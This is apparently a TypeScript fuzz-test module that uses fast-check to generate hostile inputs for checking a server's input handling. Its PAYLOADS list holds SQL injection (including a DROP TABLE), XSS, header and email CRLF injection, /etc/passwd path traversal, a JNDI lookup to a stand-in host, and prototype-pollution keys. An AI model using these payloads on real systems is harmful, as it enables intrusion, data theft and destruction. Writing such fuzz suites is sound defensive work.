// Hostile inputs for the fuzz suite: strings an attacker or a broken client sends
// (injection, confusable unicode, control characters), JSON values of every type with polluting
// keys, raw bodies that are not JSON, and mutations of a valid body (drop, duplicate, retype,
// `__proto__`/`constructor`/`prototype` keys at any level).
import fc from 'fast-check';

/** Payloads that break parsers, queries, pages or headers when mishandled. */
export const PAYLOADS = [
  "' OR '1'='1' --",
  "'; DROP TABLE captures; --",
  '1; SELECT pg_sleep(10)',
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'x\r\nSet-Cookie: oturum=ele-gecirildi',
  '%0d%0aX-Injected:%201',
  '../../../../etc/passwd',
  '${jndi:ldap://kotu.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'İSTANBUL',
  'istanbul'.toLocaleUpperCase('tr'),
  'ı',
  'İ',
  'I\u0307',
  '\u202eKAPAT\u202c',
  '\u200f\u200e\u200b\u2060',
  '\ufeff',
  'a\u0000b',
  '\u0000',
  '\ud800',
  '０５３２ １２３ ４５ ６７',
  '٠٥٣٢١٢٣٤٥٦٧',
  '𝟎𝟓𝟑𝟐𝟏𝟐𝟑𝟒𝟓𝟔𝟕',
  '+90 532 123 45 67\u0000',
  'ayse@ornek.com.tr\r\nBcc: herkes@kotu.example',
  'AYŞE@ÖRNEK.COM.TR',
  'ayse@xn--rnek-1sa.com.tr',
  'аyse@ornek.com.tr',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '',
  ' ',
  'x'.repeat(5000),
] as const;

/** Numbers at the edges: huge, tiny, negative, fractional, unsafe integers. */
export const EDGE_NUMBERS = [
  0,
  -0,
  -1,
  1.5,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 63),
  1e308,
  -1e308,
  5e-324,
  Number.MAX_SAFE_INTEGER,
] as const;

/** A hostile string: a payload, a payload inside ordinary text, or any unicode at all. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 8 }))
    .map(([a, p, b]) => `${a}${p}${b}`),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

/** Whether `value` can be sent as an HTTP header value at all (no CR, LF, NUL; Latin-1). */
export const isHeaderValue = (value: string) => /^[\t\x20-\x7e\x80-\xff]*$/.test(value);
/** A hostile string that can still be sent as a header value. */
export const headerString = hostileString.filter(isHeaderValue);

/** Keys that pollute prototypes when merged naively. */
export const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** A polluting payload: `{"polluted": …}` or `{"prototype": {"polluted": …}}`. */
const pollution = (): Record<string, unknown> => {
  const inner = JSON.parse('{"polluted":"evet","toString":"kirik"}') as Record<string, unknown>;
  return JSON.parse(JSON.stringify({ prototype: inner, ...inner })) as Record<string, unknown>;
};

/** Sets `key` as an own enumerable property (so `__proto__` is a key, not the prototype). */
function ownSet(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

/** A JSON value of any type with hostile strings, edge numbers and polluting keys. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.constantFrom(...EDGE_NUMBERS),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    hostileString,
    fc.array(tie('value'), { maxLength: 4 }),
    tie('object'),
  ),
  object: fc
    .array(fc.tuple(fc.oneof(hostileString, fc.constantFrom(...POLLUTING_KEYS)), tie('value')), {
      maxLength: 4,
    })
    .map((entries) => {
      const object: Record<string, unknown> = {};
      for (const [key, value] of entries) ownSet(object, key, value);
      return object;
    }),
})).value;

/** Raw bodies that are not (or barely) JSON: truncated, nested past reason, odd numbers. */
export function rawBodies(valid: () => string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.nat({ max: 2000 }).map((cut) => valid().slice(0, cut % Math.max(1, valid().length))),
    fc.integer({ min: 1, max: 25_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
    fc
      .integer({ min: 1, max: 8_000 })
      .map((n) => `{"siteKey":${'{"a":'.repeat(n)}1${'}'.repeat(n)}}`),
    fc
      .integer({ min: 1, max: 8_000 })
      .map((n) => `{"toString":1,"valueOf":2,"a":${'{"a":'.repeat(n)}1${'}'.repeat(n)}}`),
    fc.constantFrom(
      '',
      ' ',
      'null',
      'true',
      '[]',
      '{}',
      '"x"',
      '1e999',
      '-1e999',
      '123456789012345678901234567890',
      '{"id":1e999}',
      '{"a":1,}',
      "{'a':1}",
      '{"a":NaN}',
      '\ufeff{}',
      '{"a":"\\ud800"}',
      '{"__proto__":{"polluted":"evet"}}',
      '{"constructor":{"prototype":{"polluted":"evet"}}}',
    ),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.json({ maxDepth: 3 }),
  );
}

/** The paths of every value inside `value` (objects and arrays), the root excluded. */
export function pathsOf(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (value === null || typeof value !== 'object') return [];
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value);
  return entries.flatMap(([key, child]) => [[...prefix, key], ...pathsOf(child, [...prefix, key])]);
}

/** One change to a valid body. */
export type Mutation =
  | { kind: 'drop'; at: number }
  | { kind: 'retype'; at: number; value: unknown }
  | { kind: 'duplicate'; at: number; value: unknown }
  | { kind: 'pollute'; at: number; key: (typeof POLLUTING_KEYS)[number] };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('drop' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('retype' as const), at: fc.nat(), value: hostileJson }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), value: hostileJson }),
  fc.record({
    kind: fc.constant('pollute' as const),
    at: fc.nat(),
    key: fc.constantFrom(...POLLUTING_KEYS),
  }),
);

const DUPLICATE_MARK = '\u0001izinli-duplicate\u0001';

/**
 * Applies mutations to a copy of `body` and returns the JSON text sent. A duplicate key is written
 * into the text itself (JSON.parse keeps the last one), so the server sees both.
 */
export function mutate(body: object, mutations: readonly Mutation[]): string {
  const copy = structuredClone(body) as Record<string, unknown>;
  const duplicates: [string, unknown][] = [];
  for (const m of mutations) {
    const paths = [[] as (string | number)[], ...pathsOf(copy)];
    const path = paths[m.at % paths.length]!;
    const parentPath = path.slice(0, -1);
    const key = path.at(-1);
    const parent = parentPath.reduce<unknown>(
      (v, k) => (v as Record<string | number, unknown>)[k],
      copy,
    ) as Record<string | number, unknown>;
    if (m.kind === 'pollute') {
      const target = (key === undefined ? copy : parent[key]) as unknown;
      const host =
        target !== null && typeof target === 'object' && !Array.isArray(target)
          ? (target as Record<string, unknown>)
          : copy;
      ownSet(host, m.key, pollution());
    } else if (key === undefined) {
      continue;
    } else if (m.kind === 'drop') {
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete parent[key];
    } else if (m.kind === 'retype') {
      parent[key] = m.value;
    } else if (!Array.isArray(parent) && typeof key === 'string') {
      // A second `"key": value` before the original, written into the text below.
      const mark = `${DUPLICATE_MARK}${duplicates.length}`;
      duplicates.push([key, m.value]);
      const rebuilt: Record<string, unknown> = {};
      ownSet(rebuilt, mark, null);
      for (const [k, v] of Object.entries(parent)) ownSet(rebuilt, k, v);
      for (const k of Object.keys(parent)) delete parent[k];
      for (const [k, v] of Object.entries(rebuilt)) ownSet(parent, k, v);
    }
  }
  let text = JSON.stringify(copy);
  duplicates.forEach(([key, value], i) => {
    const mark = JSON.stringify(`${DUPLICATE_MARK}${i}`);
    text = text.replace(
      `${mark}:null`,
      `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`,
    );
  });
  return text;
}

/** `encodeURIComponent` that also takes lone surrogates (as U+FFFD, as URLSearchParams does). */
export function uri(value: string): string {
  return encodeURIComponent(
    value.replace(
      /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g,
      '\ufffd',
    ),
  );
}
